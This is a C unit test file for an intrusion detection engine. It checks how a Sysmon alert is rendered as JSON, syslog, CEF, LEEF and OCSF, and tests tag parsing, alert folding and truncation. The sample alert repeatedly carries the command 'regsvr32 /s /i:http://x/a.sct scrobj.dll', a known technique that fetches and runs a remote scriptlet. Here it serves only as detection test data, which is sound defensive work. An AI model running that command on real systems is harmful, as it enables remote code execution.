#include <yajl/yajl_tree.h>

#include "lib/engine/alert_private.h"
#include "tests/unit/engine/sample.h"

#define ATTACK_JSON                                                                                \
	"{\"@timestamp\":\"2020-07-22T03:27:52.809Z\",\"ecs\":{\"version\":\"8.17.0\"},"           \
	"\"event\":{\"kind\":\"alert\",\"category\":[\"process\"],\"type\":[\"start\"],"           \
	"\"code\":\"1\",\"provider\":\"Microsoft-Windows-Sysmon\",\"severity\":73,"                \
	"\"id\":\"0123456789abcdeffedcba9876543210\","                                             \
	"\"created\":\"2020-07-22T03:28:00.000Z\",\"original\":\"{\\\"EventID\\\":1}\"},"          \
	"\"message\":\"Scriptlet run by regsvr32 on WS5.example.com\","                            \
	"\"rule\":{\"id\":\"6a1b0b0c-1111-4222-8333-444455556666\","                               \
	"\"name\":\"Scriptlet run by regsvr32\",\"level\":\"high\","                               \
	"\"description\":\"Says what it finds.\","                                                 \
	"\"reference\":[\"https://example.com/a?b=c\"]},"                                          \
	"\"threat\":{\"framework\":\"MITRE ATT&CK\","                                              \
	"\"tactic\":[{\"id\":\"TA0005\",\"name\":\"Defense Evasion\"}],"                           \
	"\"technique\":[{\"id\":\"T1218.010\"},{\"id\":\"T1105\"}]},"                              \
	"\"host\":{\"name\":\"WS5.example.com\"},"                                                 \
	"\"user\":{\"name\":\"alice\",\"domain\":\"EXAMPLE\"},"                                    \
	"\"process\":{\"executable\":\"C:\\\\Windows\\\\System32\\\\regsvr32.exe\","               \
	"\"name\":\"regsvr32.exe\","                                                               \
	"\"command_line\":\"regsvr32 /s /i:http://x/a.sct scrobj.dll\",\"pid\":9384,"              \
	"\"entity_id\":\"{A-1}\",\"pe\":{\"original_file_name\":\"REGSVR32.EXE\"},"                \
	"\"parent\":{\"executable\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","                     \
	"\"name\":\"cmd.exe\",\"command_line\":\"cmd /c \\\"run\\\"\",\"pid\":8648}},"             \
	"\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":\"1\","     \
	"\"record_id\":\"4711\",\"provider_name\":\"Microsoft-Windows-Sysmon\","                   \
	"\"computer_name\":\"WS5.example.com\"},"                                                  \
	"\"observer\":{\"vendor\":\"squiblyd\",\"product\":\"squiblyd\",\"type\":\"ids\","         \
	"\"version\":\"0.1.0\",\"hostname\":\"sensor1\"},"                                         \
	"\"squibly\":{\"event_id\":\"11111111111111110000000000000022\","                          \
	"\"peer\":\"192.0.2.7:51234\",\"shape\":\"nxlog\","                                        \
	"\"selections\":[\"program\",\"engine\"],"                                                 \
	"\"matched\":[{\"field\":\"CommandLine\","                                                 \
	"\"value\":\"regsvr32 /s /i:http://x/a.sct scrobj.dll\"}]}}"

static void the_attack_as_json(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_attack(&s);
	text = sample_text(&s, SQ_FORMAT_JSON);
	assert_string_equal(text, ATTACK_JSON);
	free(text);
}

static void the_attack_as_syslog(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_attack(&s);
	text = sample_text(&s, SQ_FORMAT_SYSLOG);
	/* 13 * 8 + 3; the UUID without dashes has the 32 bytes that MSGID allows. */
	assert_string_equal(text, "<107>1 2020-07-22T03:28:00.000Z sensor1 squiblyd - "
	                          "6a1b0b0c111142228333444455556666 - " ATTACK_JSON);
	free(text);
}

static void the_attack_as_cef(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_attack(&s);
	text = sample_text(&s, SQ_FORMAT_CEF);
	assert_string_equal(
		text,
		"CEF:0|squiblyd|squiblyd|0.1.0|6a1b0b0c-1111-4222-8333-444455556666|"
		"Scriptlet run by regsvr32|8|rt=1595388472809 "
		"externalId=0123456789abcdeffedcba9876543210 dvchost=sensor1 "
		"dhost=WS5.example.com dntdom=EXAMPLE duser=alice "
		"dproc=C:\\\\Windows\\\\System32\\\\regsvr32.exe dpid=9384 cat=T1218.010,T1105 "
		"deviceFacility=Microsoft-Windows-Sysmon/Operational "
		"cn1Label=recordId cn1=4711 squiblydEventId=11111111111111110000000000000022 "
		"cs1Label=commandLine cs1=regsvr32 /s /i:http://x/a.sct scrobj.dll "
		"cs2Label=parentProcess cs2=C:\\\\Windows\\\\System32\\\\cmd.exe "
		"cs3Label=parentCommandLine cs3=cmd /c \"run\" cs4Label=eventCode cs4=1 "
		"cs5Label=matched cs5=CommandLine: regsvr32 /s /i:http://x/a.sct scrobj.dll "
		"cs6Label=peer cs6=192.0.2.7:51234");
	free(text);
}

static void the_attack_as_leef(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_attack(&s);
	text = sample_text(&s, SQ_FORMAT_LEEF);
	assert_string_equal(
		text, "LEEF:2.0|squiblyd|squiblyd|0.1.0|6a1b0b0c-1111-4222-8333-444455556666|x09|"
		      "devTime=1595388472809\tsev=8\talertId=0123456789abcdeffedcba9876543210\t"
		      "cat=T1218.010,T1105\t"
		      "identHostName=WS5.example.com\tdomain=EXAMPLE\tusrName=alice\t"
		      "ruleName=Scriptlet run by regsvr32\tlevel=high\t"
		      "process=C:\\Windows\\System32\\regsvr32.exe\tprocessId=9384\t"
		      "commandLine=regsvr32 /s /i:http://x/a.sct scrobj.dll\t"
		      "parentProcess=C:\\Windows\\System32\\cmd.exe\t"
		      "parentCommandLine=cmd /c \"run\"\t"
		      "channel=Microsoft-Windows-Sysmon/Operational\teventCode=1\trecordId=4711\t"
		      "eventId=11111111111111110000000000000022\t"
		      "matched=CommandLine: regsvr32 /s /i:http://x/a.sct scrobj.dll\t"
		      "peer=192.0.2.7:51234\tobserver=sensor1");
	free(text);
}

static void the_attack_as_syslog_of_rfc_3164(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_attack(&s);
	memcpy(s.observer.hostname, "sensor1.example.com", sizeof("sensor1.example.com"));
	s.alert.now.east_s = 2 * 3600;
	text = sample_text(&s, SQ_FORMAT_SYSLOG3164);
	assert_non_null(strstr(text, "<107>Jul 22 05:28:00 sensor1 squiblyd: {\"@timestamp\":"));
	free(text);
	s.alert.now = (struct sq_now){ .wall_us = 1593655200000000, .east_s = -3600 };
	memcpy(s.observer.hostname, "192.0.2.7", sizeof("192.0.2.7"));
	text = sample_text(&s, SQ_FORMAT_SYSLOG3164);
	assert_int_equal(strncmp(text, "<107>Jul  2 01:00:00 192.0.2.7 squiblyd: {", 42), 0);
	free(text);
	memcpy(s.observer.hostname, "2001:db8::1.x", sizeof("2001:db8::1.x"));
	text = sample_text(&s, SQ_FORMAT_SYSLOG3164);
	assert_non_null(strstr(text, " 2001:db8::1.x squiblyd: "));
	free(text);
	s.observer.hostname[0] = '\0';
	text = sample_text(&s, SQ_FORMAT_SYSLOG3164);
	assert_non_null(strstr(text, ":00 - squiblyd: {"));
	free(text);
}

#define FINDING_HEAD                                                                               \
	"{\"metadata\":{\"version\":\"1.4.0\",\"uid\":\"0123456789abcdeffedcba9876543210\","       \
	"\"product\":{\"name\":\"squiblyd\",\"vendor_name\":\"squiblyd\",\"version\":\"0.1.0\"},"  \
	"\"profiles\":[\"host\"],\"log_name\":\"Microsoft-Windows-Sysmon/Operational\","           \
	"\"log_provider\":\"Microsoft-Windows-Sysmon\",\"event_code\":\"1\"},"                     \
	"\"category_uid\":2,\"category_name\":\"Findings\",\"class_uid\":2004,"                    \
	"\"class_name\":\"Detection Finding\",\"activity_id\":1,\"activity_name\":\"Create\","     \
	"\"type_uid\":200401,\"type_name\":\"Detection Finding: Create\",\"status_id\":1,"         \
	"\"status\":\"New\",\"time\":1595388480000,\"start_time\":1595388472809,"                  \
	"\"end_time\":1595388472809,\"is_alert\":true,\"severity_id\":4,\"severity\":\"High\","    \
	"\"message\":\"Scriptlet run by regsvr32 on WS5.example.com\","                            \
	"\"finding_info\":{\"uid\":\"0123456789abcdeffedcba9876543210\","                          \
	"\"title\":\"Scriptlet run by regsvr32\",\"desc\":\"Says what it finds.\","                \
	"\"analytic\":{\"uid\":\"6a1b0b0c-1111-4222-8333-444455556666\","                          \
	"\"name\":\"Scriptlet run by regsvr32\",\"type_id\":1,\"type\":\"Rule\"},"

/* tests/e2e/test_formats.py holds the whole against the schema. */
static void the_attack_as_ocsf(void **state)
{
	char *text, error[200];
	struct sample s;
	yajl_val tree;

	(void)state;
	sample_attack(&s);
	text = sample_text(&s, SQ_FORMAT_OCSF);
	assert_int_equal(strncmp(text, FINDING_HEAD, sizeof(FINDING_HEAD) - 1), 0);
	tree = yajl_tree_parse(text, error, sizeof(error));
	if (!tree)
		fail_msg("%s", error);
	yajl_tree_free(tree);
	free(text);
	/* Two tactics: which technique belongs to which is not said. */
	s.tags[2] = SQ_SV("attack.execution");
	text = sample_text(&s, SQ_FORMAT_OCSF);
	assert_non_null(strstr(
		text,
		"\"attacks\":[{\"technique\":{\"uid\":\"T1218\"},"
		"\"sub_technique\":{\"uid\":\"T1218.010\"}},{\"technique\":{\"uid\":\"T1105\"}},"
		"{\"tactic\":{\"uid\":\"TA0005\",\"name\":\"Defense Evasion\"}},"
		"{\"tactic\":{\"uid\":\"TA0002\",\"name\":\"Execution\"}}],"));
	free(text);
}

static void a_finding_of_a_bare_event_has_what_is_required(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_bare(&s);
	s.alert.peer = NULL;
	sample_set(&s, SQ_F_PROCESS_ID, SQ_SV("99999999999"));
	text = sample_text(&s, SQ_FORMAT_OCSF);
	assert_non_null(strstr(
		text, "\"message\":\"Bare\",\"finding_info\":{\"uid\":\"alert\",\"title\":\"Bare\","
		      "\"analytic\":{\"name\":\"Bare\",\"type_id\":1,\"type\":\"Rule\"},"
		      "\"created_time\":1595388480000,\"first_seen_time\":1595388480000,"
		      "\"last_seen_time\":1595388480000},\"raw_data\":\"{}\",\"unmapped\":{"
		      "\"observer\":{\"hostname\":\"sensor1\"},\"squibly\":{\"matched\":[]}}}"));
	free(text);
}

static void absent_values_are_left_out(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_bare(&s);
	s.alert.peer = NULL;
	sample_set(&s, SQ_F_USER, SQ_SV("-"));
	sample_set(&s, SQ_F_PROCESS_ID, SQ_SV("none"));
	text = sample_text(&s, SQ_FORMAT_JSON);
	assert_string_equal(
		text,
		"{\"@timestamp\":\"2020-07-22T03:28:00.000Z\",\"ecs\":{\"version\":\"8.17.0\"},"
		"\"event\":{\"kind\":\"alert\",\"severity\":21,"
		"\"created\":\"2020-07-22T03:28:00.000Z\",\"original\":\"{}\"},"
		"\"message\":\"Bare\",\"rule\":{\"name\":\"Bare\",\"level\":\"low\"},"
		"\"observer\":{\"vendor\":\"squiblyd\",\"product\":\"squiblyd\",\"type\":\"ids\","
		"\"version\":\"0.1.0\",\"hostname\":\"sensor1\"},\"squibly\":{\"matched\":[]}}");
	free(text);
	s.observer.hostname[0] = '\0';
	text = sample_text(&s, SQ_FORMAT_SYSLOG);
	assert_non_null(strstr(text, "<109>1 2020-07-22T03:28:00.000Z - squiblyd - alert - {"));
	free(text);
}

static void a_tactic_without_a_number_is_named(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_attack(&s);
	s.tags[0] = SQ_SV("attack.stealth");
	text = sample_text(&s, SQ_FORMAT_JSON);
	assert_non_null(strstr(text, "\"tactic\":[{\"name\":\"Stealth\"}],"));
	free(text);
}

static void flags_are_named(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_bare(&s);
	s.event.flags = SQ_EVENT_DUPLICATE_KEY | SQ_EVENT_FROM_MESSAGE;
	text = sample_text(&s, SQ_FORMAT_JSON);
	assert_non_null(strstr(text, "\"flags\":[\"duplicate_key\",\"from_message\"]"));
	free(text);
}

/* What a sender may put into a field to break out of it, in each encoding. */

static void repeats_are_counted_in_their_place(void **state)
{
	static const char *const ends[SQ_FORMATS] = {
		[SQ_FORMAT_JSON] = "scrobj.dll\"}],\"repeats\":18446744073709551615}}",
		[SQ_FORMAT_SYSLOG] = "scrobj.dll\"}],\"repeats\":18446744073709551615}}",
		[SQ_FORMAT_CEF] = " cs6=192.0.2.7:51234 cnt=18446744073709551615",
		[SQ_FORMAT_LEEF] = "\tobserver=sensor1\tcnt=18446744073709551615",
		[SQ_FORMAT_OCSF] = "scrobj.dll\"}]}},\"count\":18446744073709551615}",
		[SQ_FORMAT_SYSLOG3164] = "scrobj.dll\"}],\"repeats\":18446744073709551615}}",
	};
	struct sample s;

	(void)state;
	sample_attack(&s);
	for (unsigned f = 0; f < SQ_FORMATS; f++) {
		struct sq_outbuf out = sq_outbuf_of(1 << 20);
		char *text = sample_text(&s, (enum sq_format)f);

		sq_alert_write_repeats(&out, (enum sq_format)f,
		                       &(struct sq_alert_repeats){
					       .text = sq_sv_of(text),
					       .last = { s.alert.id[0], s.alert.id[1] },
					       .id = { 0xabc, 0xdef },
					       .n = UINT64_MAX,
				       });
		assert_true(sq_sv_ends(sq_outbuf_view(&out), sq_sv_of(ends[f])));
		assert_int_equal(sq_sv_find(sq_outbuf_view(&out),
		                            SQ_SV("0000000000000abc0000000000000def")),
		                 strstr(text, "0123456789abcdeffedcba9876543210") - text);
		/* OCSF's finding_info.uid stays: it is that of the last repeat, never sent itself.
		 */
		assert_int_equal(sq_sv_find(sq_outbuf_view(&out),
		                            SQ_SV("0123456789abcdeffedcba9876543210")) == SIZE_MAX,
		                 f != SQ_FORMAT_OCSF);
		if (f == SQ_FORMAT_JSON) {
			yajl_val tree;

			sq_outbuf_putc(&out, '\0');
			tree = yajl_tree_parse(out.p, NULL, 0);
			assert_non_null(tree);
			yajl_tree_free(tree);
		}
		sq_outbuf_fini(&out);
		free(text);
	}
}

static void a_text_that_is_no_alert_is_repeated_as_it_is(void **state)
{
	struct sq_outbuf out = sq_outbuf_of(100);

	(void)state;
	sq_alert_write_repeats(&out, SQ_FORMAT_JSON,
	                       &(struct sq_alert_repeats){
				       .text = SQ_SV("x}"), .last = { 1, 2 }, .n = 3 });
	assert_sv_equal(sq_outbuf_view(&out), SQ_SV("x}"));
	sq_outbuf_fini(&out);
}

static void the_record_can_be_left_out(void **state)
{
	struct sample s;
	char *text;

	(void)state;
	sample_attack(&s);
	s.alert.without_original = true;
	text = sample_text(&s, SQ_FORMAT_JSON);
	assert_null(strstr(text, "\"original\":"));
	assert_non_null(strstr(text, "\"created\":\"2020-07-22T03:28:00.000Z\"},\"message\""));
	free(text);
}

static void long_values_are_cut_between_characters(void **state)
{
	static char value[SQ_ALERT_VALUE_MAX + 10];
	struct sample s;

	(void)state;
	sample_attack(&s);
	memset(value, 'x', sizeof(value));
	memcpy(value + SQ_ALERT_VALUE_MAX - 1, "\xe2\x82\xac", 3);
	sample_set(&s, SQ_F_COMMAND_LINE, (struct sq_sv){ value, sizeof(value) });
	assert_int_equal(sq_alert_value(&s.alert, SQ_F_COMMAND_LINE).n, SQ_ALERT_VALUE_MAX - 1);
	s.alert.value_max = 9;
	assert_sv_equal(sq_alert_value(&s.alert, SQ_F_COMMAND_LINE), SQ_SV("xxxxxxxxx"));
	/* Four continuation bytes in a row are no character: the cut is where it was asked for. */
	assert_int_equal(sq_alert_cut(SQ_SV("a\x80\x80\x80\x80\x80"), 5).n, 2);
	assert_int_equal(sq_alert_cut(SQ_SV("\x80"), 0).n, 0);
	assert_int_equal(sq_alert_cut(SQ_SV("abc"), 3).n, 3);
}

struct tag_case {
	const char *name, *tag, *technique, *tactic;
};

static struct tag_case tag_cases[] = {
	{ "a technique", "attack.t1218", "T1218", NULL },
	{ "a sub-technique", "attack.t1218.010", "T1218.010", NULL },
	{ "a technique in capitals", "ATTACK.T1218.010", "T1218.010", NULL },
	{ "too few digits", "attack.t121", NULL, NULL },
	{ "a dot and nothing", "attack.t1218.", NULL, NULL },
	{ "too many digits", "attack.t1218.0101", NULL, NULL },
	{ "letters in it", "attack.t12a8", NULL, NULL },
	{ "a group", "attack.g0032", NULL, NULL },
	{ "a tactic with a dash", "attack.command-and-control", NULL, "TA0011" },
	{ "a tactic with an underscore", "attack.defense_evasion", NULL, "TA0005" },
	{ "a tactic without a number", "attack.stealth", NULL, "" },
	{ "a word like a tactic", "attack.execution1", NULL, NULL },
	{ "another scheme", "cve.2021-1675", NULL, NULL },
	{ "nothing after the dot", "attack.", NULL, NULL },
	{ "empty", "", NULL, NULL },
};

static void check_tag(void **state)
{
	const struct tag_case *tc = *state;
	const struct sq_alert_tactic *tactic = sq_alert_tactic(sq_sv_of(tc->tag));
	char id[16] = "";
	size_t n = sq_alert_technique(sq_sv_of(tc->tag), id);

	assert_int_equal(n, tc->technique ? strlen(tc->technique) : 0);
	assert_string_equal(id, tc->technique ? tc->technique : "");
	if (!tc->tactic) {
		assert_null(tactic);
		return;
	}
	assert_non_null(tactic);
	assert_string_equal(tactic->id, tc->tactic);
}

static bool same_key(struct sample *a, struct sample *b)
{
	uint64_t x[2], y[2];

	sq_alert_fold_key(&a->alert, x);
	sq_alert_fold_key(&b->alert, y);
	/* Halves that fall together by themselves would be worth 64 bits only. */
	assert_int_equal(x[0] == y[0], x[1] == y[1]);
	return x[0] == y[0] && x[1] == y[1];
}

static void a_fold_key_is_of_rule_host_sender_and_command_line(void **state)
{
	struct sample a, b;

	(void)state;
	sample_attack(&a);
	sample_attack(&b);
	sample_set(&b, SQ_F_COMPUTER, SQ_SV("ws5.EXAMPLE.com"));
	sample_set(&b, SQ_F_RECORD_ID, SQ_SV("4712"));
	sample_set(&b, SQ_F_USER, SQ_SV("EXAMPLE\\bob"));
	assert_true(same_key(&a, &b));
	sample_set(&b, SQ_F_COMPUTER, SQ_SV("ws6.example.com"));
	assert_false(same_key(&a, &b));

	sample_attack(&b);
	sample_set(&b, SQ_F_COMMAND_LINE, SQ_SV("regsvr32 /s /i:http://x/a.sct scrobj.dlL"));
	assert_false(same_key(&a, &b));

	sample_attack(&b);
	b.rule.id = SQ_SV("6a1b0b0c-1111-4222-8333-444455556667");
	assert_false(same_key(&a, &b));

	/* Two senders may have hosts of one name, and neither hides the other's. */
	sample_attack(&a);
	sample_attack(&b);
	a.alert.identity = &(struct sq_identity){ .user = "north" };
	assert_false(same_key(&a, &b));
	b.alert.identity = &(struct sq_identity){ .user = "south" };
	assert_false(same_key(&a, &b));
	b.alert.identity = &(struct sq_identity){ .subject = "north" };
	assert_false(same_key(&a, &b));
	b.alert.identity = &(struct sq_identity){ .user = "north", .proxy = "192.0.2.1" };
	assert_true(same_key(&a, &b));
	a.alert.tenant = SQ_SV("north");
	assert_false(same_key(&a, &b));
	b.alert.tenant = SQ_SV("south");
	assert_false(same_key(&a, &b));
	b.alert.tenant = SQ_SV("north");
	assert_true(same_key(&a, &b));

	/* The end of one part cannot stand for the beginning of the next. */
	sample_attack(&a);
	sample_attack(&b);
	sample_set(&a, SQ_F_COMPUTER, SQ_SV("ab"));
	sample_set(&a, SQ_F_COMMAND_LINE, SQ_SV("c"));
	sample_set(&b, SQ_F_COMPUTER, SQ_SV("a"));
	sample_set(&b, SQ_F_COMMAND_LINE, SQ_SV("bc"));
	assert_false(same_key(&a, &b));
}

static void without_a_command_line_the_values_that_matched_count(void **state)
{
	struct sample a, b;

	(void)state;
	sample_attack(&a);
	sample_attack(&b);
	sample_set(&a, SQ_F_COMMAND_LINE, (struct sq_sv){ 0 });
	sample_set(&b, SQ_F_COMMAND_LINE, (struct sq_sv){ 0 });
	assert_true(same_key(&a, &b));
	b.hit.matched[0].value = SQ_SV("C:\\Windows\\System32\\scrobj.dll");
	assert_false(same_key(&a, &b));
}

static void a_full_buffer_fails_and_nothing_is_written_past_it(void **state)
{
	struct sample s;

	(void)state;
	sample_attack(&s);
	for (size_t max = 0; max < 500; max += 7) {
		for (unsigned f = 0; f < SQ_FORMATS; f++) {
			struct sq_outbuf out = sq_outbuf_of(max);

			sq_alert_write(&out, (enum sq_format)f, &s.alert);
			assert_true(out.failed);
			assert_true(out.len <= max);
			sq_outbuf_fini(&out);
		}
	}
}

static void severities_and_names(void **state)
{
	(void)state;
	assert_int_equal(sq_level_severity(SQ_LEVEL_INFORMATIONAL), 1);
	assert_int_equal(sq_level_severity(SQ_LEVEL_LOW), 21);
	assert_int_equal(sq_level_severity(SQ_LEVEL_MEDIUM), 47);
	assert_int_equal(sq_level_severity(SQ_LEVEL_HIGH), 73);
	assert_int_equal(sq_level_severity(SQ_LEVEL_CRITICAL), 99);
	assert_string_equal(sq_format_name(SQ_FORMAT_JSON), "json");
	assert_string_equal(sq_format_name(SQ_FORMAT_LEEF), "leef");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_attack_as_json),
		cmocka_unit_test(the_attack_as_syslog),
		cmocka_unit_test(the_attack_as_cef),
		cmocka_unit_test(the_attack_as_leef),
		cmocka_unit_test(the_attack_as_syslog_of_rfc_3164),
		cmocka_unit_test(the_attack_as_ocsf),
		cmocka_unit_test(a_finding_of_a_bare_event_has_what_is_required),
		cmocka_unit_test(absent_values_are_left_out),
		cmocka_unit_test(a_tactic_without_a_number_is_named),
		cmocka_unit_test(flags_are_named),
		cmocka_unit_test(repeats_are_counted_in_their_place),
		cmocka_unit_test(a_text_that_is_no_alert_is_repeated_as_it_is),
		cmocka_unit_test(the_record_can_be_left_out),
		cmocka_unit_test(long_values_are_cut_between_characters),
		cmocka_unit_test(a_fold_key_is_of_rule_host_sender_and_command_line),
		cmocka_unit_test(without_a_command_line_the_values_that_matched_count),
		cmocka_unit_test(a_full_buffer_fails_and_nothing_is_written_past_it),
		cmocka_unit_test(severities_and_names),
	};

	return cmocka_run_group_tests_name("alert", tests, NULL, NULL) +
	       RUN_TABLE("alert/tag", tag_cases, check_tag);
}
